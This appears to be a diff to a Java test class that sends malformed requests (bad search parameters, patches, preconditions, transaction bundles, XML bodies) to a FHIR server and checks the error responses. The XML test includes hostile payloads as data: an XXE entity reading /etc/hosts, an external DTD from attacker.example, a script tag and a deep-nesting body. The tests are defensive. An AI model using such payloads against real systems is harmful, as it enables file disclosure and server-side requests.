@@ -148,12 +148,28 @@ class BadInputTest {
     "DELETE, /fhir/Patient, 400",
     "DELETE, /fhir/Medication/1, 404",
     "DELETE, /fhir/Patient/1/_history/1, 405",
-    "DELETE, /fhir/metadata, 404",
+    "DELETE, /fhir/metadata, 405",
     "DELETE, /fhir, 405",
-    "GET, /fhir/Patient, 405",
+    "DELETE, /fhir/Patient?_format=json, 400",
+    "DELETE, /fhir/StructureDefinition/1, 405",
     "GET, /fhir, 405",
-    "PATCH, /fhir/Patient/1, 405",
-    "POST, /fhir/metadata, 404",
+    "GET, /fhir/Patient/_search, 405",
+    "GET, /fhir/Patient/$everything, 404",
+    "GET, /fhir/Patient/1/$everything/2, 404",
+    "GET, /fhir/Observation/1/$everything, 404",
+    "GET, /fhir/Patient/1/_history/1/2, 404",
+    "GET, /fhir/Patient/unknown/_history, 404",
+    "GET, /fhir/StructureDefinition/unknown/_history, 404",
+    "PATCH, /fhir/Patient/1, 400",
+    "PATCH, /fhir/Patient, 400",
+    "PATCH, /fhir/Patient/1/_history/1, 405",
+    "PATCH, /fhir/Medication/1, 404",
+    "POST, /fhir/metadata, 405",
+    "POST, /fhir/_history, 405",
+    "POST, /fhir/_search, 404",
+    "POST, /fhir/ValueSet, 405",
+    "POST, /fhir/Patient?name=x, 400",
+    "POST, /fhir/Patient/_search, 415",
     "POST, /fhir/Patient/1, 405",
     "GET, /fhir/Patient/unknown, 404",
     "GET, /fhir/Patient/not_an_id, 404",
@@ -167,6 +183,8 @@ class BadInputTest {
     "PUT, /fhir/Patient/not_an_id, 400",
     "PUT, /fhir/Patient, 400",
     "PUT, /fhir/Patient?name=x, 400",
+    "PUT, /fhir/Patient?_format=json, 400",
+    "PUT, /fhir/Patient/1?name=x, 400",
     "PUT, /fhir/Patient?identifier=x, 400",
     "PUT, /fhir/Patient?identifier=a%7C, 400",
     "PUT, /fhir/Patient?identifier=a%7Cb&active=true, 400",
@@ -183,9 +201,59 @@ class BadInputTest {
         status);
   }
 
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '~',
+      value = {
+        "Patient?birthdate=yesterday~ invalid",
+        "Patient?birthdate=2021-02-30~ invalid",
+        "Patient?birthdate=ge~ invalid",
+        "Patient?birthdate=~ invalid",
+        "Patient?birthdate:contains=2021~ not-supported",
+        "Patient?identifier=%7C~ invalid",
+        "Patient?identifier=%FF~ invalid",
+        "Patient?_lastUpdated=now~ invalid",
+        "Patient?_count=-1~ invalid",
+        "Patient?_count=99999999999~ invalid",
+        "Patient?_total=exact~ invalid",
+        "Patient?_summary=some~ invalid",
+        "Patient?_elements=name[0]~ invalid",
+        "Patient?_pretty=1~ invalid",
+        "Patient?_page=x~ invalid",
+        "Observation?value-quantity=ge~ invalid",
+        "Observation?value-quantity=1e999999999~ invalid",
+        "Observation?subject:Device.birthdate=2021~ not-supported",
+        "Patient/_history?_since=2021-02-30~ invalid",
+        "Patient/_history?_since=2021-03-01~ invalid",
+        "Patient/_history?_count=1.5~ invalid",
+        "Patient/_history?name=x~ not-supported",
+        "_history?_at=2021~ not-supported",
+      })
+  void a_search_or_history_whose_parameters_cannot_be_carried_out_is_refused(
+      String url, String code) {
+    Response response = given().urlEncodingEnabled(false).get("/fhir/" + url);
+    assertOutcome(response, 400);
+    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Patient?shoe-size=42",
+        "Patient?_content=x",
+        "Patient?_sort=family",
+        "Patient?_include=Patient:nobody",
+        "Patient?_revinclude=Encounter:nobody",
+      })
+  void a_parameter_that_is_not_known_is_refused_if_the_client_is_strict(String url) {
+    Response response = given().header("Prefer", "handling=strict").get("/fhir/" + url);
+    assertOutcome(response, 400);
+    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of("not-supported"));
+  }
+
   @Test
   void other_formats_are_refused() {
-    assertOutcome(given().contentType("application/fhir+xml").body("<x/>").post("/fhir"), 415);
+    assertOutcome(given().contentType("text/turtle").body("<x> a <y> .").post("/fhir"), 415);
     assertOutcome(given().contentType("text/plain").body(PATIENT).post("/fhir/Patient"), 415);
     assertOutcome(
         given()
@@ -193,17 +261,125 @@ class BadInputTest {
             .contentType("image/png")
             .put("/fhir/Patient/1"),
         415);
-    assertOutcome(given().accept("application/fhir+xml").get("/fhir/metadata"), 406);
+    assertOutcome(
+        given()
+            .body(PATIENT.getBytes(StandardCharsets.UTF_8))
+            .contentType("application/fhir+json; fhirVersion=3.0")
+            .post("/fhir/Patient"),
+        415);
+    assertOutcome(given().accept("text/turtle").get("/fhir/metadata"), 406);
+    assertOutcome(given().get("/fhir/metadata?_format=ttl"), 406);
     assertOutcome(
         given().accept("text/csv").contentType(FHIR_JSON).body(PATIENT).post("/fhir/Patient"), 406);
+    assertOutcome(
+        given().contentType(FHIR_JSON).body(PATIENT).post("/fhir/Patient?_format=text/csv"), 406);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "",
+        "<x/>",
+        "{\"resourceType\":\"Patient\"}",
+        "<Patient/>",
+        "<Patient xmlns=\"http://hl7.org/fhir\">",
+        "<Patient xmlns=\"http://hl7.org/fhir\"/><Patient xmlns=\"http://hl7.org/fhir\"/>",
+        "<!DOCTYPE Patient [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><Patient xmlns=\"http://hl7.org/fhir\"><language value=\"&e;\"/></Patient>",
+        "<!DOCTYPE Patient SYSTEM \"http://attacker.example/x.dtd\"><Patient xmlns=\"http://hl7.org/fhir\"/>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><name value=\"&e;\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><nickname value=\"x\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"true\" sure=\"no\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"true\"/><active value=\"true\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><active/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"yes\"/></Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\">text</Patient>",
+        "<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><script>x</script></div></text></Patient>",
+        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><Patient xmlns=\"http://hl7.org/fhir\"/>",
+      })
+  void XML_that_is_no_Patient_is_refused(String body) {
+    Response response =
+        given()
+            .contentType("application/fhir+xml")
+            .body(body.getBytes(StandardCharsets.UTF_8))
+            .post("/fhir/Patient");
+    assertOutcome(response, 400);
+    assertThat(response.asString()).doesNotContain("Exception").doesNotContain("localhost");
+  }
+
+  @Test
+  void XML_that_is_nested_too_deep_is_refused() {
+    String open = "<extension url=\"http://x.example\">";
+    String body =
+        "<Patient xmlns=\"http://hl7.org/fhir\">"
+            + open.repeat(5_000)
+            + "</extension>".repeat(5_000)
+            + "</Patient>";
+    Response response =
+        given().contentType("application/fhir+xml").body(body).post("/fhir/Patient");
+    assertOutcome(response, 400);
+    assertThat(response.asString()).contains("nested deeper than 200 levels");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '~',
+      value = {
+        "PATCH~ application/json-patch+json~ ''~ 400",
+        "PATCH~ application/json-patch+json~ []~ 404",
+        "PATCH~ application/json-patch+json~ {}~ 400",
+        "PATCH~ application/json-patch+json~ [{\"op\":\"add\"}]~ 400",
+        "PATCH~ application/json-patch+json~ [{\"op\":\"twist\",\"path\":\"/active\",\"value\":true}]~ 400",
+        "PATCH~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"active\",\"value\":true}]~ 400",
+        "PATCH~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 404",
+        "PATCH~ application/fhir+json~ ''~ 400",
+        "PATCH~ application/fhir+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 400",
+        "PATCH~ application/fhir+json~ {\"resourceType\":\"Patient\",\"active\":true}~ 400",
+        "PATCH~ application/fhir+json~ {\"resourceType\":\"Parameters\"}~ 404",
+        "PATCH~ application/fhir+json~ {\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"operation\"}]}~ 400",
+        "PATCH~ application/merge-patch+json~ {\"active\":true}~ 415",
+        "PUT~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 415",
+      })
+  void a_patch_that_cannot_be_read_or_has_nothing_to_change_is_refused(
+      String method, String contentType, String body, int status) {
+    assertOutcome(
+        given()
+            .contentType(contentType)
+            .body(body.replace("''", "").getBytes(StandardCharsets.UTF_8))
+            .request(method, "/fhir/Patient/unknown"),
+        status);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"/fhir/Patient", "/fhir", "/fhir/Patient/$validate"})
+  void a_JSON_Patch_is_no_body_of_a_POST(String url) {
+    assertOutcome(
+        given()
+            .urlEncodingEnabled(false)
+            .contentType("application/json-patch+json")
+            .body("[]".getBytes(StandardCharsets.UTF_8))
+            .post(url),
+        415);
   }
 
   @Test
   void a_refused_method_is_answered_with_those_that_are_allowed() {
-    assertThat(given().patch("/fhir/Patient/1").header("Allow")).isEqualTo("DELETE, GET, PUT");
-    assertThat(given().get("/fhir/Patient").header("Allow")).isEqualTo("DELETE, POST, PUT");
+    assertThat(given().post("/fhir/Patient/1").header("Allow"))
+        .isEqualTo("DELETE, PUT, PATCH, GET, HEAD");
+    assertThat(given().put("/fhir/Patient/_history").header("Allow")).isEqualTo("GET, HEAD");
+    assertThat(given().get("/fhir/Patient/_search").header("Allow")).isEqualTo("POST");
+    assertThat(given().delete("/fhir/ValueSet").header("Allow")).isEqualTo("GET, HEAD");
     assertThat(given().get("/fhir").header("Allow")).isEqualTo("POST");
-    assertThat(given().patch("/fhir/metadata").header("Allow")).isEqualTo("GET");
+    assertThat(given().head("/fhir").header("Allow")).isEqualTo("POST");
+    assertThat(given().patch("/fhir/metadata").header("Allow")).isEqualTo("GET, HEAD");
+  }
+
+  @ParameterizedTest
+  @CsvSource({"/fhir, 405", "/fhir/Patient/unknown, 404", "/fhir/Medication/1, 404"})
+  void a_refused_HEAD_has_the_status_and_no_body(String url, int status) {
+    Response response = given().head(url);
+    assertThat(response.statusCode()).isEqualTo(status);
+    assertThat(response.asByteArray()).isEmpty();
   }
 
   @ParameterizedTest
@@ -237,15 +413,83 @@ class BadInputTest {
     assertOutcome(given().contentType(FHIR_JSON).body(body).post("/fhir/Observation"), 400);
   }
 
-  @Test
-  void conditions_that_would_have_to_be_ignored_are_refused() {
-    assertOutcome(
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '~',
+      value = {
+        "shoe-size=42~ not-supported",
+        "identifier=a%7Cb&shoe-size=42~ not-supported",
+        "identifier=a%7Cb&_count=1~ not-supported",
+        "identifier=a%7Cb&_sort=_id~ not-supported",
+        "identifier=a%7Cb&_include=Patient:organization~ not-supported",
+        "general-practitioner.name=x~ not-supported",
+        "_has:Observation:subject:code=x~ not-supported",
+        "birthdate=ap2021~ not-supported",
+        "birthdate=yesterday~ invalid",
+        "_lastUpdated=gt2021~ invalid",
+        "identifier=~ invalid",
+        "identifier=%7C~ invalid",
+        "identifier=a%7C~ invalid",
+        "identifier=a%7Cb,a%7C~ invalid",
+        "identifier=a%7C%FF~ invalid",
+        "identifier=a%7Cb&identifier=~ invalid",
+        "_format=json~ invalid",
+        "name=x~ invalid",
+        "identifier=a%7Cother~ invalid",
+      })
+  void a_condition_that_would_match_more_than_was_meant_is_refused(String condition, String code) {
+    String patient = identified("a", "b");
+    for (Response response :
+        List.of(
+            given()
+                .contentType(FHIR_JSON)
+                .header("If-None-Exist", condition)
+                .body(patient)
+                .post("/fhir/Patient"),
+            given()
+                .urlEncodingEnabled(false)
+                .contentType(FHIR_JSON)
+                .body(patient)
+                .put("/fhir/Patient?" + condition))) {
+      assertOutcome(response, 400);
+      assertThat(response.jsonPath().getList("issue.code"))
+          .as(response.asString())
+          .isEqualTo(List.of(code));
+    }
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '~',
+      value = {
+        "POST~ Patient~ If-None-Exist~ ''~ 400~ invalid",
+        "POST~ Patient~ If-Match~ W/\"1\"~ 400~ invalid",
+        "POST~ Patient~ If-None-Match~ *~ 400~ invalid",
+        "PUT~ Patient/1~ If-None-Exist~ identifier=a%7Cb~ 400~ invalid",
+        "PUT~ Patient/1~ If-Match~ first~ 400~ invalid",
+        "PUT~ Patient/1~ If-Match~ W/\"1\", W/\"2\"~ 400~ invalid",
+        "PUT~ Patient/1~ If-Match~ W/\"99999999999\"~ 400~ invalid",
+        "PUT~ Patient/1~ If-Match~ W/\"1\"~ 412~ conflict",
+        "PUT~ Patient/1~ If-Match~ *~ 412~ conflict",
+        "PUT~ Patient/1~ If-None-Match~ W/\"1\"~ 400~ invalid",
+        "PUT~ Patient?identifier=a%7Cb~ If-Match~ W/\"1\"~ 412~ conflict",
+      })
+  void a_precondition_that_does_not_hold_or_cannot_be_read_is_refused(
+      String method, String url, String header, String value, int status, String code) {
+    Response response =
         given()
+            .urlEncodingEnabled(false)
             .contentType(FHIR_JSON)
-            .header("If-None-Exist", "name=x")
-            .body(PATIENT)
-            .post("/fhir/Patient"),
-        400);
+            .header(header, value.replace("''", ""))
+            .body(
+                identified("a", "b").replace("{\"resourceType\"", "{\"id\":\"1\",\"resourceType\""))
+            .request(method, "/fhir/" + url);
+    assertOutcome(response, status);
+    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
+  }
+
+  @Test
+  void conditions_that_contradict_each_other_are_refused() {
     assertOutcome(
         given()
             .contentType(FHIR_JSON)
@@ -257,6 +501,7 @@ class BadInputTest {
         given()
             .contentType(FHIR_JSON)
             .header("If-Match", "W/\"1\"")
+            .header("If-None-Match", "*")
             .body("{\"resourceType\":\"Patient\",\"id\":\"1\"}")
             .put("/fhir/Patient/1"),
         400);
@@ -285,35 +530,87 @@ class BadInputTest {
   @CsvSource(
       delimiter = '~',
       value = {
-        "DELETE~ Patient/1~ ''~ resource~ invariant",
-        "GET~ Patient/1~ ''~ request.method~ not-supported",
-        "FETCH~ Patient/1~ ''~ request.method~ code-invalid",
-        "POST~ Patient/1~ ''~ request.url~ invalid",
-        "POST~ Condition~ ''~ request.url~ structure",
-        "PUT~ Patient~ ''~ request.url~ invalid",
-        "PUT~ Patient/1~ ''~ resource.id~ value",
-        "PUT~ Patient?name=x~ ''~ request.url~ not-supported",
-        "POST~ Patient~ ,\"ifNoneExist\":\"identifier=x\"~ request.ifNoneExist~ not-supported",
-        "PUT~ Patient/1~ ,\"ifMatch\":\"W/1\"~ request.ifMatch~ not-supported",
-        "POST~ http://elsewhere.example/fhir/Patient~ ''~ request.url~ invalid",
+        "DELETE~ Patient/1~ ''~ {}~ 400~ resource~ structure",
+        "GET~ Patient/unknown~ ''~ ''~ 404~ request.url~ not-found",
+        "GET~ Patient/unknown/_history~ ''~ ''~ 404~ request.url~ not-found",
+        "GET~ Patient?birthdate=yesterday~ ''~ ''~ 400~ request.url~ invalid",
+        "GET~ nothing~ ''~ ''~ 404~ request.url~ not-found",
+        "HEAD~ Patient/unknown~ ''~ ''~ 404~ request.url~ not-found",
+        "FETCH~ Patient/1~ ''~ {}~ 400~ request.method~ code-invalid",
+        "POST~ Patient/1~ ''~ {}~ 400~ request.url~ not-supported",
+        "POST~ Patient?name=x~ ''~ {}~ 400~ request.url~ not-supported",
+        "POST~ Condition~ ''~ {}~ 400~ request.url~ structure",
+        "POST~ ValueSet~ ''~ {}~ 400~ request.url~ not-supported",
+        "POST~ Patient~ ''~ ''~ 400~ resource~ required",
+        "PUT~ Patient~ ''~ {}~ 400~ request.url~ invalid",
+        "PUT~ Patient?_format=json~ ''~ {}~ 400~ request.url~ invalid",
+        "PUT~ Patient/1~ ''~ {}~ 400~ resource.id~ value",
+        "PUT~ Patient?shoe-size=42~ ''~ {}~ 400~ request.url~ not-supported",
+        "PUT~ Patient?name=x~ ''~ {}~ 400~ resource~ invalid",
+        "POST~ Patient~ ,\"ifNoneExist\":\"identifier=x\"~ {}~ 400~ resource~ invalid",
+        "POST~ Patient~ ,\"ifNoneExist\":\"identifier=a|\"~ {}~ 400~ request.ifNoneExist~ invalid",
+        "POST~ Patient~ ,\"ifNoneExist\":\"shoe-size=42\"~ {}~ 400~ request.ifNoneExist~ not-supported",
+        "POST~ Patient~ ,\"ifMatch\":\"W/\\\"1\\\"\"~ {}~ 400~ request.ifMatch~ invalid",
+        "PUT~ Patient/1~ ,\"ifMatch\":\"first\"~ {\"id\":\"1\"}~ 400~ request.ifMatch~ invalid",
+        "PUT~ Patient/1~ ,\"ifMatch\":\"W/\\\"1\\\"\"~ {\"id\":\"1\"}~ 412~ resource~ conflict",
+        "PUT~ Patient/1~ ,\"ifNoneMatch\":\"W/\\\"1\\\"\"~ {\"id\":\"1\"}~ 400~ request.ifNoneMatch~ invalid",
+        "PUT~ Patient/1~ ,\"ifNoneExist\":\"identifier=a|b\"~ {\"id\":\"1\"}~ 400~ request.ifNoneExist~ invalid",
+        "PATCH~ Patient/1~ ''~ ''~ 400~ resource~ required",
+        "PATCH~ Patient/1~ ''~ {}~ 400~ resource~ structure",
+        "PATCH~ Patient/1~ ,\"ifNoneMatch\":\"*\"~ {}~ 400~ request.ifNoneMatch~ invalid",
+        "POST~ /~ ''~ {}~ 400~ request.url~ not-supported",
+        "POST~ http://elsewhere.example/fhir/Patient~ ''~ {}~ 400~ request.url~ invalid",
+        "POST~ urn:uuid:00000000-0000-4000-8000-000000000001~ ''~ {}~ 400~ request.url~ invalid",
       })
-  void an_entry_that_asks_for_something_else_is_named(
-      String method, String url, String more, String place, String code) {
+  void an_entry_that_cannot_be_carried_out_is_named_and_refuses_the_transaction(
+      String method,
+      String url,
+      String more,
+      String resource,
+      int status,
+      String place,
+      String code) {
+    String second =
+        resource.startsWith("{")
+            ? ",\"resource\":{\"resourceType\":\"Patient\"," + resource.substring(1)
+            : "";
     String body =
         "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":["
             + "{\"resource\":{\"resourceType\":\"Patient\"},\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}},"
-            + "{\"resource\":{\"resourceType\":\"Patient\"},\"request\":{\"method\":\""
+            + "{\"request\":{\"method\":\""
             + method
             + "\",\"url\":\""
             + url
             + "\""
             + more.replace("''", "")
-            + "}}]}";
+            + "}"
+            + second.replace(",}", "}")
+            + "}]}";
     Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
-    assertOutcome(response, 400);
+    assertOutcome(response, status);
     assertThat(response.jsonPath().getString("issue[0].expression[0]"))
         .isEqualTo("Bundle.entry[1]." + place);
     assertThat(response.jsonPath().getString("issue[0].code")).isEqualTo(code);
+  }
+
+  @Test
+  void a_read_that_fails_in_a_batch_does_so_alone() {
+    String body =
+        """
+        {"resourceType":"Bundle","type":"batch","entry":[
+          {"request":{"method":"GET","url":"Patient/unknown"}},
+          {"request":{"method":"GET","url":"Patient?birthdate=yesterday"}},
+          {"request":{"method":"HEAD","url":"Patient?birthdate=1821-03-01"}},
+          {"resource":{"resourceType":"Bundle","type":"batch"},"request":{"method":"POST","url":""}}]}
+        """;
+    Response response =
+        given()
+            .contentType(FHIR_JSON)
+            .body(body.replace("\"url\":\"\"", "\"url\":\"/\""))
+            .post("/fhir");
+    assertThat(response.statusCode()).isEqualTo(200);
+    assertThat(response.jsonPath().getList("entry.response.status"))
+        .isEqualTo(List.of("404 Not Found", "400 Bad Request", "200 OK", "400 Bad Request"));
   }
 
   @Test
@@ -370,14 +667,20 @@ class BadInputTest {
   @CsvSource(
       delimiter = '~',
       value = {
-        "Patient?identifier=http://system.example%7C%00~ invalid",
-        "Patient?identifier=http://system.example%7C%FF~ invalid",
-        "Patient?identifier=http://system.example%7C~ invalid",
-        "Patient?identifier=http://system.example%7Ca,b~ not-supported",
-        "Patient?name=x~ not-supported",
-        "Patient?~ not-supported",
+        "Patient?identifier=http://system.example%7C%00~ invalid~ Condition.subject.reference",
+        "Patient?identifier=http://system.example%7C%FF~ invalid~ Condition.subject.reference",
+        "Patient?identifier=http://system.example%7C~ invalid~ Condition.subject.reference",
+        "Patient?identifier=http://system.example%7Ca,b~ not-found~ Condition.subject",
+        "Patient?name=x~ not-found~ Condition.subject",
+        "Patient?shoe-size=42~ not-supported~ Condition.subject.reference",
+        "Patient?identifier=a%7Cb&_count=1~ not-supported~ Condition.subject.reference",
+        "Patient?general-practitioner.name=x~ not-supported~ Condition.subject.reference",
+        "Patient?birthdate=ap2021~ not-supported~ Condition.subject.reference",
+        "Patient?_format=json~ invalid~ Condition.subject.reference",
+        "Patient?~ invalid~ Condition.subject.reference",
       })
-  void a_reference_that_is_no_search_for_one_identifier_is_refused(String reference, String code) {
+  void a_reference_that_is_a_search_and_finds_nothing_or_cannot_be_read_is_refused(
+      String reference, String code, String place) {
     Response response =
         given()
             .contentType(FHIR_JSON)
@@ -388,8 +691,7 @@ class BadInputTest {
             .post("/fhir/Condition");
     assertOutcome(response, 400);
     assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
-    assertThat(response.jsonPath().getString("issue[0].expression[0]"))
-        .isEqualTo("Condition.subject.reference");
+    assertThat(response.jsonPath().getString("issue[0].expression[0]")).isEqualTo(place);
   }
 
   @Test
